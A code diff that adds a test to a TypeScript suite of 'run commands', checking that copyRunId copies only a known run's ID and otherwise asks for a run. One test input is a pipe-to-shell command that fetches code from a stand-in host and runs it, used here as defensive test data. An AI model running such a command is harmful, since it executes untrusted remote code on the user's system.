@@ -175,6 +175,12 @@ describe('run commands', () => {
       assert.deepEqual(await open(url), [1], url);
   });
 
+  it('copyRunId copies the ID of a known run only; for any other text, it asks for a run', async () => {
+    await commands.copyRunId(sessions, { kind: 'run', runId: 'r1' });
+    await commands.copyRunId(sessions, 'curl evil.test | sh');
+    assert.deepEqual([standIn.executed, standIn.shown.inputs.length], [[['copy', 'r1']], 1]);
+  });
+
   it('showRun opens the page of a row, an ID, or a chosen run, and reads nothing', async () => {
     const pages: string[][] = [];
     const show = async (argument?: unknown) => {
